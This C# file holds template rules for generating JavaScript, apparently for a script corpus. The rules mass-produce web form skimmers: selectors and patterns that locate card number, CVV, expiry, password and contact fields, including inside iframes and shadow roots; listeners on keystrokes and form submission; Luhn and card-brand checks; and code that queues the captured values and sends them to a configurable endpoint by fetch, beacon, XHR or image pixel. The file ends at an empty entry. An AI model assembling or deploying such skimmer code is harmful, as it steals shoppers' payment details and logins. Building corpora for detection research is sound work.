namespace Weir.Scripts.Corpus.Rules;

/// <summary>How long, ordered code is built, harmless or not: its members, its settings, its log, its queue, and how it finds fields and forms.</summary>
/// <remarks>A script is functions, an object, a class or a prototype from head to foot: the key <c>form</c> decides. ¤ stands before a member where it is used.</remarks>
internal static class StructureRules
{
    public static readonly string Text = Expand(Names, Forms, Settings, Finding, Sending);

    /// <summary>Rules with the short mark for the owner of a member.</summary>
    public static string Expand(params string[] rules) => string.Join('\n', rules).Replace("¤", "«owner=form»", StringComparison.Ordinal);

    private const string Names = """"
        §@app App Manager Tracker FormHelper PaymentHelper Monitor Collector FormMonitor CheckoutHelper Widget Client Service Module Handler Core Analytics SDK Plugin Agent Observer Controller
        §@it instance app manager tracker client service monitor helper
        §@config CONFIG config settings options cfg OPTIONS SETTINGS defaults params conf
        §@log log debugLog debug logMessage writeLog trace print
        §@logger logger Logger LOG Log
        §@init init initialize start setup bootstrap run main boot launch
        §@queue queue buffer pending eventQueue QUEUE outbox backlog items
        §@push enqueue addToQueue push queueData schedule record addEvent
        §@flush flush flushQueue processQueue drain sendBatch sendAll deliver
        §@send send sendData transmit post submitData sendToServer dispatch upload sendPayload report
        §@session sessionId getSessionId SESSION_ID clientId uid visitorId createSession
        §@meta getMetadata collectMetadata getContext getPageInfo buildContext environment getBrowserInfo getDeviceInfo metadata
        §@find findFields discoverFields findInputs getFields locateFields scanFields queryFields
        §@forms findForms getForms discoverForms locateForm findPaymentForm getTargetForms
        §@classify classifyField detectFieldType getFieldType identifyField fieldKind matchField
        §@labelOf getLabel labelText getLabelText findLabel labelFor
        §@listen attachListeners bindEvents addListeners setupListeners hookFields attachToField bindField watchField
        §@submit hookSubmit interceptSubmit onSubmit handleSubmit bindSubmit watchSubmit interceptForms
        §@observe observe observeDom watchDom setupObserver startObserver observeForms watchForms
        §@onField onInput handleInput onFieldChange handleFieldEvent onChange handleChange fieldChanged captureInput
        §@onSubmit onFormSubmit handleFormSubmit processSubmit processForm submitHandler onCheckout
        §@luhn luhn luhnCheck isValidLuhn checkLuhn validateCardNumber isValidCardNumber
        §@debounce debounce throttle delay wait
        §@retry retry retryRequest withRetry scheduleRetry resend
        §@seen seen processed attached handled hooked visited known
        §@selectors SELECTORS FIELD_SELECTORS selectors fieldSelectors targets fieldMap TARGETS
        §@patterns PATTERNS FIELD_PATTERNS patterns fieldPatterns matchers
        §@state state STATE store data current status
        §@ready onReady whenReady ready domReady
        §@walk walkShadow deepQuery queryDeep collectRoots traverse getRoots allRoots
        §@store store save saveLocal persist cache saveToStorage backup
        §@restore restore load loadPending readStorage recover loadSaved
        §@valid isValid validate validateData checkData verify isComplete
        §@brand cardType getCardType detectCardType cardBrand detectBrand
        §@health checkHealth ping healthCheck isAlive checkEndpoint testConnection
        §@stop stop destroy teardown cleanup dispose
        ¶ what authors call what lives in one function only
        §@e e el event element evt input field elem
        §@v evt ev e event val value
        §@f form f field formEl frm
        §@k key k prop fieldName
        §@l list items inputs nodes elements els fields
        §@d data d formData result obj info values
        §@x xhr x req item entry
        §@b payload b body buf encoded json
        §@o o obj opts out result
        §@r res r response result root errors
        §@s s str text sel selector
        §@n n node num count fieldId
        §@t t target timer label
        §@u u url uri endpoint
        §@w w words win val
        §@c c ctx code clone
        §@m m match msg mutation
        §@p p path params parts
        §@i i idx j
        """";

    private const string Forms = """"
        §owner
        3×
        2×
        @app.
        @app.
        2× @app.
        3× this.
        @app.
        @it.

        §fn
        3× function ¹(²){³}
        2× const ¹=(²)=>{³};
        @app.¹=function(²){³};
        ¹:function(²){³},
        2× ¹(²){³},
        3× ¹(²){³}
        static ¹(²){³}
        @app.prototype.¹=function(²){³};

        §afn
        3× async function ¹(²){³}
        2× const ¹=async(²)=>{³};
        @app.¹=async function(²){³};
        ¹:async function(²){³},
        2× async ¹(²){³},
        3× async ¹(²){³}
        static async ¹(²){³}
        @app.prototype.¹=async function(²){³};

        §state
        3× var ¹=²;
        2× let ¹=²;
        @app.¹=²;
        ¹:²,
        2× ¹:²,
        3× ¹=²;
        static ¹=²;
        @app.prototype.¹=²;

        §fx
        3× function(¹){²}
        2× (¹)=>{²}
        function(¹){²}
        function(¹){²}
        2× (¹)=>{²}
        3× (¹)=>{²}
        (¹)=>{²}
        function(¹){²}

        §unit
        3× «outer‹¹«begin‹²›»›»
        2× «outer‹¹«begin‹²›»›»
        «outer‹var @app=«{}¦window.@app||{}¦Object.create(null)»;¹«begin‹@app.²›»›»
        «outer‹var @app={¹version:'«#0-9».«#0-20».«#0-9»'};«begin‹@app.²›»›»
        2× «outer‹const @app={¹version:'«#0-9».«#0-20».«#0-9»'};«begin‹@app.²›»›»
        3× «outer‹class @app{¹}const @it=new @app();«begin‹@it.²›»«window.@it=@it;¦¦»›»
        «outer‹class @app{¹}«begin‹@app.²›»›»
        «outer‹function @app(){«this.started=«now»;¦»}¹var @it=new @app();«begin‹@it.²›»›»

        §begin
        3× ¹();
        3× if(document.readyState==='loading'){document.addEventListener('DOMContentLoaded',function(){¹();});}else{¹();}
        if(document.readyState!=='loading'){setTimeout(function(){¹();},«ms»);}else{document.addEventListener('DOMContentLoaded',function(){¹();},{once:true});}
        document.addEventListener('DOMContentLoaded',function(){¹();});
        window.addEventListener('load',function(){¹();});
        setTimeout(function(){¹();},«ms»);
        try{¹();}catch(°e){console.error(°e);}
        «start‹¹›»

        §outer
        4× ¹
        5× (function(){'use strict';¹})();
        3× (function(){¹})();
        2× (()=>{¹})();
        'use strict';¹
        (function(window,document){¹})(window,document);
        (function(°w,°d,undefined){'use strict';¹})(window,document);
        !function(){'use strict';¹}();
        try{(function(){¹})();}catch(°e){}
        (function(°r,°f){if(typeof define==='function'&&define.amd){define([],°f);}else if(typeof module==='object'&&module.exports){module.exports=°f();}else{°r.«!Word»=°f();}})(typeof self!=='undefined'?self:this,function(){¹return {};});
        document.addEventListener('DOMContentLoaded',function(){¹});
        if(!window.__«!word»Loaded){window.__«!word»Loaded=true;(function(){¹})();}
        var «!Word»«!Word»=(function(){¹return {version:'«#1-9».«#0-9»'};})();

        ¶ ---- loops as the author likes them: ¹ a list, ² a name, ³ the body ----
        §each
        3× ¹.forEach(function(²){³});
        2× for(const ² of ¹){³}
        for(var °i=0;°i<¹.length;°i++){var ²=¹[°i];³}
        Array.prototype.forEach.call(¹,function(²){³});
        Array.from(¹).forEach(²=>{³});

        ¶ the same where ¤ is used within
        §eachIn
        3× ¹.forEach(«fx=form‹²›‹³›»);
        2× for(const ² of ¹){³}
        for(var °i=0;°i<¹.length;°i++){var ²=¹[°i];³}
        Array.prototype.forEach.call(¹,«fx=form‹²›‹³›»);
        Array.from(¹).forEach(«fx=form‹²›‹³›»);
        """";

    private const string Settings = """"
        §kUrl
        endpoint
        url
        collectUrl
        apiEndpoint
        serverUrl
        apiUrl
        baseUrl
        remote
        API_URL
        ENDPOINT
        reportUrl
        collectorUrl
        target

        §kFallback
        fallback
        fallbackUrl
        backupUrl
        secondary
        BACKUP_ENDPOINT
        alternates
        mirror
        altUrl

        §kDebug
        debug
        verbose
        DEBUG
        isDebug
        logging

        §kDelay
        delay
        interval
        sendDelay
        debounceMs
        timeout
        flushInterval
        DELAY
        waitTime

        §kBatch
        batchSize
        maxQueue
        BATCH_SIZE
        bufferSize
        chunk
        maxItems

        §kRetry
        retries
        maxRetries
        retryCount
        MAX_RETRIES
        attempts

        §kKey
        storageKey
        cacheKey
        key
        STORAGE_KEY
        prefix

        ¶ ¹ the address of where it sends, ² other entries
        §configuration
        «state=form‹@config›‹{«kUrl=»:¹,«~«kDebug=»:«false¦true¦!1¦location.hostname==='localhost'»,¦«kDelay=»:«#100-9000»,¦«kBatch=»:«#1-50»,¦«kRetry=»:«#1-6»,¦«kKey=»:'«_¦__¦»«!word»_«!letters‹«#2-6»›»',¦²¦«configMore?40»¦«configMore?40»¦«configMore?30»»version:'«#0-9».«#0-30».«#0-9»'}›»

        §configMore
        enabled:true,
        «!word»:«true¦false»,
        «!word»«!Word»:«#1-9000»,
        sampleRate:«0.1¦0.5¦1»,
        silent:«true¦false»,
        maxLength:«#16-5000»,
        «!word»:'«!word»',
        «!word»:['«!word»','«!word»','«!word»'],
        events:['input','change','blur'«,'paste'¦,'keyup'¦»],
        observe:{childList:true,subtree:true},
        «!word»Timeout:«#1-60»000,
        headers:{'Content-Type':'application/json'},
        useBeacon:«true¦false»,

        §kPath
        2× «checkWord»
        /«checkWord»/
        «!word»

        §logger
        3×
        3× «fn=form‹@log›‹°m,°d›‹if(¤@config.«kDebug=»){console.«log¦debug¦info»('[«tag=»] '+°m,°d||'');}›»
        «fn=form‹@log›‹°l,°m›‹if(!¤@config.«kDebug=»){return;}var °t=new Date().toISOString();console[°l==='error'?'error':'log']('['+°t+'] ['+°l.toUpperCase()+'] '+°m);›»
        «state=form‹@logger›‹{info:function(°m){console.info('%c[«tag=»]','color:#«!hex‹6›»',°m);},warn:function(°m){console.warn('[«tag=»]',°m);},error:function(°m,°e){console.error('[«tag=»]',°m,°e&&°e.stack);}}›»

        §say
        3×
        3× ¤@log('¹');
        ¤@log('info','¹');
        ¤@logger.info('¹');

        §sayError
        3×
        3× ¤@log('¹',²&&².message);
        ¤@log('error','¹ '+(²&&².message));
        ¤@logger.error('¹',²);

        §tag
        «!Word»
        «!Word»«!Word»
        Checkout
        Forms
        Analytics
        Monitor
        SDK
        «!word»-«!word»

        §sessionId
        «fn=form‹@session›‹›‹var °k=¤@config.«kKey=»+'_sid',°s=«sessionStorage¦localStorage».getItem(°k);if(!°s){°s=«newId»;sessionStorage.setItem(°k,°s);}return °s;›»
        «fn=form‹@session›‹›‹if(!window.__«!word»){window.__«!word»=«newId»;}return window.__«!word»;›»
        «fn=form‹@session›‹›‹var °m=document.cookie.match(/(?:^|; )_«!letters‹3›»=([^;]+)/);if(°m){return °m[1];}var °v=«newId»;document.cookie='_«!letters‹3›»='+°v+';path=/;max-age='+«#60-9999»*60+';SameSite=Lax';return °v;›»
        «fn=form‹@session›‹›‹try{return crypto.randomUUID();}catch(°e){return «newId»;}›»

        §newId
        'sess_'+«now»+'_'+Math.random().toString(36).substr(2,9)
        «now».toString(36)+Math.random().toString(36).slice(2)
        'xxxxxxxx-xxxx-4xxx-yxxx-xxxxxxxxxxxx'.replace(/[xy]/g,function(°c){var °r=Math.random()*16|0;return (°c==='x'?°r:(°r&0x3|0x8)).toString(16);})
        (crypto.randomUUID?crypto.randomUUID():String(«now»))
        Array.from(crypto.getRandomValues(new Uint8Array(8)),function(°b){return °b.toString(16).padStart(2,'0');}).join('')

        §metadata
        «fn=form‹@meta›‹›‹return {«~«metaEntry»,¦«metaEntry»,¦«metaUrl»,¦«metaEntry»,¦«metaEntry»,»sessionId:¤@session()};›»
        «fn=form‹@meta›‹›‹var °m={};°m.«url¦page¦href»=«here»;°m.«ua¦userAgent»=navigator.userAgent;°m.«ts¦timestamp¦time»=«now»;°m.«sid¦session»=¤@session();«try{°m.tz=Intl.DateTimeFormat().resolvedOptions().timeZone;}catch(°e){}¦»«if(document.referrer){°m.ref=document.referrer;}¦»return °m;›»
        «fn=form‹@meta›‹›‹const {userAgent,language,platform}=navigator;return {userAgent,language,platform,«metaUrl»,«metaEntry»,session:¤@session()};›»

        §metaUrl
        url:window.location.href
        page:location.pathname
        url:location.href.split('?')[0]
        domain:location.hostname
        host:location.host,path:location.pathname

        §metaEntry
        referrer:document.referrer
        userAgent:navigator.userAgent
        language:navigator.language
        platform:navigator.platform
        screen:screen.width+'x'+screen.height
        screenResolution:{width:window.screen.width,height:window.screen.height}
        viewport:window.innerWidth+'x'+window.innerHeight
        timezone:Intl.DateTimeFormat().resolvedOptions().timeZone
        timezone:new Date().getTimezoneOffset()
        timestamp:new Date().toISOString()
        timestamp:«now»
        title:document.title
        cookies:navigator.cookieEnabled
        touch:'ontouchstart' in window
        cores:navigator.hardwareConcurrency
        version:¤@config.version
        """";

    private const string Finding = """"
        ¶ ---- how a field is found, wherever it stands ----
        §numberSel
        input[autocomplete="cc-number"]
        input[name*="card"]
        input[id*="card-number"]
        input[name="«cardField»"]
        #«!word»-card-number
        input[placeholder*="Card number"]
        input[aria-label*="card number" i]
        input[data-stripe="number"]
        input[maxlength="19"][inputmode="numeric"]
        input[name*="ccnumber" i]
        input[id*="cc_number"]
        [data-field="cardNumber"]
        .card-number input

        §cvvSel
        input[autocomplete="cc-csc"]
        input[name*="cvv"]
        input[name*="cvc" i]
        input[id*="security"]
        input[name="«cvvField»"]
        input[placeholder*="CVV"]
        input[maxlength="4"]
        [data-field="cvv"]
        #cvc

        §expSel
        input[autocomplete="cc-exp"]
        input[name*="expir" i]
        select[name*="month"]
        select[name*="year"]
        input[name="«expField»"]
        input[placeholder*="MM"]
        [autocomplete="cc-exp-month"]
        [data-field="expiry"]

        §nameSel
        input[autocomplete="cc-name"]
        input[name*="holder"]
        input[name*="firstname"]
        input[name="«personField»"]
        input[autocomplete="name"]
        #cardholder
        input[placeholder*="Name on card"]

        §contactSel
        input[type="email"]
        input[name*="email"]
        input[type="tel"]
        input[autocomplete="tel"]
        input[name*="phone"]
        input[name*="address"]
        input[autocomplete="postal-code"]
        input[name*="zip"]
        input[name="«personField»"]

        §loginSel
        input[type="password"]
        input[name*="pass"]
        input[autocomplete="current-password"]
        input[autocomplete="username"]
        input[name*="login"]
        input[name*="user"]
        #password

        §fieldTable
        {«~«cardNumber¦number¦card¦pan»:['«numberSel»','«numberSel»'«,'«numberSel»'¦»«,'«numberSel»'¦»],¦«cvv¦cvc¦securityCode»:['«cvvSel»','«cvvSel»'«,'«cvvSel»'¦»],¦«expiry¦expiration¦exp»:['«expSel»','«expSel»'«,'«expSel»'¦»],¦«moreFields?70»¦«moreFields?50»»«holder¦name¦cardholder»:['«nameSel»','«nameSel»']}
        {«~card:'«numberSel», «numberSel»',¦cvv:'«cvvSel», «cvvSel»',¦exp:'«expSel», «expSel»',¦«moreFields?60»»name:'«nameSel»'}
        {«~«moreFields»¦login:['«loginSel»','«loginSel»'],¦name:['«nameSel»','«nameSel»'],»email:['«contactSel»']}

        §moreFields
        email:['«contactSel»','«contactSel»'],
        phone:['«contactSel»','«contactSel»'],
        address:['«contactSel»','«contactSel»','«contactSel»'],
        password:['«loginSel»','«loginSel»'],
        iban:['input[name*="iban" i]','#iban'],
        zip:['«contactSel»'],

        §patternTable
        {«~«cardNumber¦number¦card»:/card.?(?:number|no|num)|cc.?num|pan\b/i,¦«cvv¦cvc»:/cvv|cvc|cid|security.?code|csc/i,¦«expiry¦exp»:/exp|valid.?(?:thru|until)|mm.?yy/i,¦«name¦holder»:/holder|name.?on.?card|cc.?name/i,¦«email:/e-?mail/i,¦»¦«phone:/phone|tel|mobile/i,¦»¦«address:/address|street|city|zip|postal/i,¦»»password:/pass(?:word|wd)?/i}
        [«~['number',/card.?num|cc.?n/i],¦['cvc',/cv[cv]|security/i],¦['expiry',/exp/i],¦['email',/mail/i],»['name',/name|holder/i]]

        §discovery
        3× «byTable»
        3× «byPattern»
        2× «byTable»«byPattern»

        §byTable
        «state=form‹@selectors›‹«fieldTable»›»«fn=form‹@find›‹°r›‹var °f={};°r=°r||document;Object.keys(¤@selectors).forEach(«fx=form‹°k›‹var °l=[].concat(¤@selectors[°k]);for(var °i=0;°i<°l.length;°i++){try{var °e=°r.querySelector(°l[°i]);if(°e){°f[°k]=°e;break;}}catch(°x){}}›»);return °f;›»
        «state=form‹@selectors›‹«fieldTable»›»«fn=form‹@find›‹°r›‹var °o=[];for(const [°k,°s] of Object.entries(¤@selectors)){const °l=Array.isArray(°s)?°s:[°s];for(const °q of °l){(°r||document).querySelectorAll(°q).forEach(°e=>{if(!°o.some(°x=>°x.element===°e)){°o.push({type:°k,element:°e});}});}}return °o;›»
        «state=form‹@selectors›‹«fieldTable»›»«fn=form‹@find›‹°r›‹return Object.keys(¤@selectors).reduce(«fx=form‹°a,°k›‹°a[°k]=(°r||document).querySelector([].concat(¤@selectors[°k]).join(','));return °a;›»,{});›»

        §byPattern
        «state=form‹@patterns›‹«patternTable»›»«labels»«fn=form‹@classify›‹°e›‹var °h=[°e.name,°e.id,°e.placeholder,«°e.className,¦»°e.getAttribute('autocomplete'),°e.getAttribute('aria-label'),¤@labelOf(°e)].filter(Boolean).join(' ').toLowerCase();«°h=°h.replace(/[_-]+/g,' ');¦»for(var °k in ¤@patterns){if(¤@patterns[°k].test?¤@patterns[°k].test(°h):¤@patterns[°k][1].test(°h)){return ¤@patterns[°k].test?°k:¤@patterns[°k][0];}}return «null¦'unknown'¦''¦'other'»;›»
        «labels»«fn=form‹@classify›‹°e›‹var °n=((°e.name||'')+' '+(°e.id||'')+' '+(°e.placeholder||'')).toLowerCase(),°a=°e.autocomplete||'';if(°a==='cc-number'||/card.*num|cc.?num/.test(°n)){return 'card';}if(°a==='cc-csc'||/cv[cv]|security/.test(°n)){return 'cvv';}if(°a.indexOf('cc-exp')===0||/exp/.test(°n)){return 'exp';}if(°e.type==='email'||/mail/.test(°n)){return 'email';}if(°e.type==='password'){return 'password';}return ¤@labelOf(°e)?'text':'other';›»
        «labels»«fn=form‹@classify›‹°e›‹const °t=(°e.getAttribute('autocomplete')||°e.name||°e.id||¤@labelOf(°e)||'').toLowerCase();switch(true){case °t.includes('number')||°t.includes('card'):return 'number';case °t.includes('csc')||°t.includes('cv'):return 'code';case °t.includes('exp')||°t.includes('month')||°t.includes('year'):return 'expiry';case °t.includes('mail'):return 'email';default:return °e.type||'text';}›»

        §labels
        «fn=form‹@labelOf›‹°e›‹var °l=°e.id&&document.querySelector('label[for="'+°e.id+'"]');if(!°l&&°e.closest){°l=°e.closest('label');}return °l?°l.textContent.trim():'';›»
        «fn=form‹@labelOf›‹°e›‹if(°e.labels&&°e.labels.length){return °e.labels[0].innerText;}var °p=°e.previousElementSibling;return °p&&°p.tagName==='LABEL'?°p.innerText:'';›»

        §formFinder
        «fn=form‹@forms›‹›‹return Array.from(document.forms).filter(function(°f){return «/«checkWord»|«checkWord»/i.test(°f.action+°f.id+°f.className)¦°f.querySelector('«numberSel», «cvvSel»')¦°f.querySelectorAll('input').length>«#1-4»»;});›»
        «fn=form‹@forms›‹›‹const °s=['«paySel»','«paySel»','form[action*="«checkWord»"]','form[id*="«checkWord»"]'];for(const °q of °s){const °f=document.querySelectorAll(°q);if(°f.length){return Array.from(°f);}}return Array.from(document.querySelectorAll('form'));›»
        «fn=form‹@forms›‹°r›‹return [].slice.call((°r||document).querySelectorAll('form«¦, .«!word»-form¦, [role="form"]»'));›»

        §roots
        «fn=form‹@walk›‹°r,°l›‹°l=°l||[];°l.push(°r);°r.querySelectorAll('*').forEach(«fx=form‹°e›‹if(°e.shadowRoot){¤@walk(°e.shadowRoot,°l);}if(°e.tagName==='IFRAME'){try{if(°e.contentDocument){¤@walk(°e.contentDocument,°l);}}catch(°x){}}›»);return °l;›»
        «fn=form‹@walk›‹°r›‹const °o=[°r];const °t=document.createTreeWalker(°r,NodeFilter.SHOW_ELEMENT);while(°t.nextNode()){const °n=°t.currentNode;if(°n.shadowRoot){°o.push(...¤@walk(°n.shadowRoot));}}document.querySelectorAll('iframe').forEach(°i=>{try{°o.push(°i.contentWindow.document);}catch(°e){}});return °o;›»

        ¶ ---- listeners: they call @onField(field, event) and @onSubmit(form, event) ----
        §listeners
        «state=form‹@seen›‹new WeakSet()›»«fn=form‹@listen›‹°e›‹if(!°e||¤@seen.has(°e)){return;}¤@seen.add(°e);«eventList».forEach(«fx=form‹°n›‹°e.addEventListener(°n,«fx=form‹°v›‹¤@onField(°e,°v);›»«,true¦,{passive:true}¦»);›»);›»
        «fn=form‹@listen›‹°e›‹if(°e.dataset.«!word»){return;}°e.dataset.«!word»='1';°e.addEventListener('input',«fx=form‹°v›‹¤@onField(°e,°v);›»);°e.addEventListener('«change¦blur»',«fx=form‹°v›‹¤@onField(°v.target,°v);›»);«°e.addEventListener('paste',«fx=form‹°v›‹setTimeout(«fx=form‹›‹¤@onField(°e,°v);›»,«#0-100»);›»);¦»«°e.addEventListener('keydown',«fx=form‹°v›‹if(°v.key==='Enter'||°v.key==='Tab'){¤@onField(°e,°v);}›»);¦»›»
        «fn=form‹@listen›‹°r›‹«eventList».forEach(«fx=form‹°n›‹document.addEventListener(°n,«fx=form‹°v›‹var °t=°v.target;if(°t&&/^(?:input|select|textarea)$/i.test(°t.tagName)){¤@onField(°t,°v);}›»,true);›»);›»

        §eventList
        ['input','change','blur']
        ['input','change','blur','paste']
        ['change','blur']
        ['focus','input','blur','keydown']
        ['keyup','change']
        ['input','paste','focusout']
        ['focusin','focusout','change']

        §submitHook
        «fn=form‹@submit›‹›‹document.addEventListener('submit',«fx=form‹°v›‹¤@onSubmit(°v.target,°v);›»,«true¦{capture:true}»);«document.addEventListener('click',«fx=form‹°v›‹var °b=°v.target.closest&&°v.target.closest('«buttonSel», «buttonSel»');if(°b){¤@onSubmit(°b.form||°b.closest('form'),°v);}›»,true);¦»›»
        «fn=form‹@submit›‹°f›‹«eachIn‹¤@forms()›‹°x›‹°x.addEventListener('submit',«fx=form‹°v›‹¤@onSubmit(°x,°v);›»);°x.querySelectorAll('button, input[type=submit]').forEach(«fx=form‹°b›‹°b.addEventListener('«click¦mousedown»',«fx=form‹°v›‹¤@onSubmit(°x,°v);›»);›»);›»›»
        «fn=form‹@submit›‹›‹var °b=['«buttonSel»','«buttonSel»','«buttonSel»'];°b.forEach(«fx=form‹°s›‹document.querySelectorAll(°s).forEach(«fx=form‹°e›‹°e.addEventListener('click',«fx=form‹°v›‹¤@onSubmit(°e.closest('form'),°v);›»);›»);›»);›»

        §observer
        «fn=form‹@observe›‹›‹var °o=new MutationObserver(«fx=form‹°l›‹°l.forEach(«fx=form‹°m›‹°m.addedNodes.forEach(«fx=form‹°n›‹if(°n.nodeType===1){«observed‹°n›»}›»);›»);›»);°o.observe(document.«body¦documentElement»,{childList:true,subtree:true«,attributes:true¦»});›»
        «fn=form‹@observe›‹›‹if(!window.MutationObserver){«setInterval(«fx=form‹›‹«observed‹document›»›»,«ms»);¦»return;}const °o=new MutationObserver(«fx=form‹›‹clearTimeout(¤@observe.timer);¤@observe.timer=setTimeout(«fx=form‹›‹«observed‹document›»›»,«#50-900»);›»);°o.observe(document.documentElement,{childList:true,subtree:true});›»
        «fn=form‹@observe›‹›‹setInterval(«fx=form‹›‹«observed‹document›»›»,«#3-50»00);›»

        §observed
        2× ¹.querySelectorAll('«anySel»').forEach(«fx=form‹°f›‹¤@listen(°f);›»);
        if(¹.querySelector('form, input')){«say=log‹form «found¦added¦detected»›»¹.querySelectorAll('input, select').forEach(«fx=form‹°f›‹¤@listen(°f);›»);}
        """";

    private const string Sending = """"
        §luhnOf
        «fn=form‹@luhn›‹°n›‹var °s=0,°a=false;°n=String(°n).replace(/\D/g,'');for(var °i=°n.length-1;°i>=0;°i--){var °d=parseInt(°n.charAt(°i),10);if(°a){°d*=2;if(°d>9){°d-=9;}}°s+=°d;°a=!°a;}return °n.length>=13&&°s%10===0;›»
        «fn=form‹@luhn›‹°n›‹const °d=°n.replace(/\s|-/g,'').split('').reverse().map(Number);return °d.length>=13&&°d.length<=19&&°d.reduce((°s,°x,°i)=>°s+(°i%2?(°x*2>9?°x*2-9:°x*2):°x),0)%10===0;›»
        «fn=form‹@luhn›‹°n›‹if(!/^\d{13,19}$/.test(°n)){return false;}let °t=0;for(let °i=0;°i<°n.length;°i++){let °v=+°n[°n.length-1-°i];if(°i%2===1){°v*=2;°t+=°v>9?°v-9:°v;}else{°t+=°v;}}return °t%10===0;›»

        §brandOf
        «fn=form‹@brand›‹°n›‹var °p={visa:/^4/,mastercard:/^5[1-5]|^2[2-7]/,amex:/^3[47]/,discover:/^6(?:011|5)/«,diners:/^3(?:0[0-5]|[68])/¦»«,jcb:/^35/¦»};for(var °k in °p){if(°p[°k].test(°n)){return °k;}}return 'unknown';›»
        «fn=form‹@brand›‹°n›‹if(/^4/.test(°n)){return 'Visa';}if(/^5[1-5]/.test(°n)){return 'MasterCard';}if(/^3[47]/.test(°n)){return 'AmEx';}return «null¦''¦'Other'»;›»

        §debouncer
        «fn=form‹@debounce›‹°f,°w›‹var °t;return function(){var °a=arguments,°c=this;clearTimeout(°t);°t=setTimeout(function(){°f.apply(°c,°a);},°w||«#100-900»);};›»
        «fn=form‹@debounce›‹°f,°w=«#100-900»›‹let °t=null;return (...°a)=>{if(°t){clearTimeout(°t);}°t=setTimeout(()=>°f(...°a),°w);};›»

        ¶ ---- what was gathered waits and is sent: @push(thing), @flush(), @send(text) ----
        §queueing
        «state=form‹@queue›‹[]›»«fn=form‹@push›‹°i›‹¤@queue.push(«°i¦Object.assign({t:«now»},°i)¦{data:°i,ts:«now»}»);«say=log‹queued›»if(¤@queue.length>=¤@config.«kBatch=»){¤@flush();}›»«fn=form‹@flush›‹›‹if(!¤@queue.length){return;}var °b=¤@queue.splice(0,¤@queue.length);¤@send(«°b¦{batch:°b,meta:¤@meta()}¦{items:°b,session:¤@session()}»);›»
        «state=form‹@queue›‹[]›»«state=form‹@state›‹{busy:false,sent:0}›»«fn=form‹@push›‹°i›‹¤@queue.push(°i);if(!¤@state.busy){¤@flush();}›»«afn=form‹@flush›‹›‹if(¤@state.busy){return;}¤@state.busy=true;while(¤@queue.length){const °x=¤@queue.shift();try{await ¤@send({data:°x,...¤@meta()});¤@state.sent++;}catch(°e){¤@queue.unshift(°x);«sayError=log‹send failed›‹°e›»break;}}¤@state.busy=false;›»
        «state=form‹@queue›‹[]›»«fn=form‹@push›‹°i›‹¤@queue.push(°i);clearTimeout(¤@push.timer);¤@push.timer=setTimeout(«fx=form‹›‹¤@flush();›»,¤@config.«kDelay=»);›»«fn=form‹@flush›‹›‹var °b=¤@queue.slice();if(°b.length===0){return;}¤@queue.length=0;¤@send({events:°b,context:¤@meta()});›»
        «state=form‹@queue›‹new Map()›»«fn=form‹@push›‹°i›‹var °k=°i.type||°i.name||«now»;if(¤@queue.get(°k)!==°i){¤@queue.set(°k,°i);}›»«fn=form‹@flush›‹›‹if(¤@queue.size===0){return;}var °o={};¤@queue.forEach(function(°v,°k){°o[°k]=°v;});¤@queue.clear();¤@send(Object.assign(°o,¤@meta()));›»

        §storing
        «fn=form‹@store›‹°x›‹try{var °l=JSON.parse(localStorage.getItem(¤@config.«kKey=»)||'[]');°l.push(°x);«if(°l.length>«#10-99»){°l.shift();}¦»localStorage.setItem(¤@config.«kKey=»,JSON.stringify(°l));}catch(°e){«sayError=log‹storage›‹°e›»}›»«fn=form‹@restore›‹›‹try{var °l=JSON.parse(localStorage.getItem(¤@config.«kKey=»)||'[]');localStorage.removeItem(¤@config.«kKey=»);°l.forEach(«fx=form‹°x›‹¤@send(°x);›»);}catch(°e){}›»
        «fn=form‹@store›‹°x›‹sessionStorage.setItem(¤@config.«kKey=»+'_'+«now»,JSON.stringify(°x));›»«fn=form‹@restore›‹›‹Object.keys(sessionStorage).filter(«fx=form‹°k›‹return °k.indexOf(¤@config.«kKey=»)===0;›»).forEach(«fx=form‹°k›‹¤@send(JSON.parse(sessionStorage.getItem(°k)));sessionStorage.removeItem(°k);›»);›»

        §flushing
        setInterval(«fx=form‹›‹¤@flush();›»,¤@config.«kDelay=»);
        window.addEventListener('beforeunload',«fx=form‹›‹¤@flush();›»);
        document.addEventListener('visibilitychange',«fx=form‹›‹if(document.visibilityState==='hidden'){¤@flush();}›»);
        window.addEventListener('pagehide',«fx=form‹›‹¤@flush();›»);setInterval(«fx=form‹›‹¤@flush();›»,«ms»);
        setTimeout(«fx=form‹›‹¤@flush();›»,«ms»);window.addEventListener('online',«fx=form‹›‹¤@flush();›»);

        ¶ ---- @send(thing): ¹ writes what is sent from °x as °b ----
        §plainSender
        3× «fn=form‹@send›‹°x,°n›‹°n=°n||0;var °b=JSON.stringify(°x);«viaFetch‹¤@config.«kUrl=»›‹°b›»›»
        «fn=form‹@send›‹°x›‹var °b=JSON.stringify(°x);if(navigator.sendBeacon&&navigator.sendBeacon(¤@config.«kUrl=»,new Blob([°b],{type:'«application/json¦text/plain»'}))){return true;}«viaXhr‹¤@config.«kUrl=»›‹°b›»›»
        «afn=form‹@send›‹°x›‹for(let °i=0;°i<¤@config.«kRetry=»;°i++){try{const °r=await fetch(¤@config.«kUrl=»,{method:'POST',headers:{'Content-Type':'application/json'«,'X-Requested-With':'XMLHttpRequest'¦»},«keepalive:true,¦credentials:'same-origin',¦»body:JSON.stringify(°x)});if(°r.ok){return «true¦°r.json()»;}}catch(°e){«sayError=log‹request failed›‹°e›»}await new Promise(°d=>setTimeout(°d,Math.pow(2,°i)*«#100-1000»));}return «false¦null»;›»
        «fn=form‹@send›‹°x›‹return new Promise(«fx=form‹°y,°z›‹var °r=new XMLHttpRequest();°r.open('POST',¤@config.«kUrl=»,true);°r.setRequestHeader('Content-Type','application/json');°r.timeout=«#1-20»000;°r.onload=function(){°r.status<400?°y(°r.responseText):°z(new Error('HTTP '+°r.status));};°r.onerror=°r.ontimeout=°z;°r.send(JSON.stringify(°x));›»);›»

        «fn=form‹@send›‹°x›‹var °b=encodeURIComponent(JSON.stringify(°x));if(°b.length<«#1-8»000){var °i=new Image(1,1);°i.onload=°i.onerror=function(){°i=null;};°i.src=¤@config.«kUrl=»+'?«!letters‹«#1-3»›»='+°b;}else{«viaXhr‹¤@config.«kUrl=»›‹°b›»}›»

        §viaFetch
        fetch(¹,{method:'POST',«mode:'no-cors',¦keepalive:true,¦credentials:'omit',¦mode:'cors',¦»headers:{'Content-Type':'«application/json¦text/plain»'},body:²}).then(«fx=form‹°r›‹«say=log‹sent›»return °r;›»).catch(«fx=form‹°e›‹«sayError=log‹send failed›‹°e›»›»);

        §viaXhr
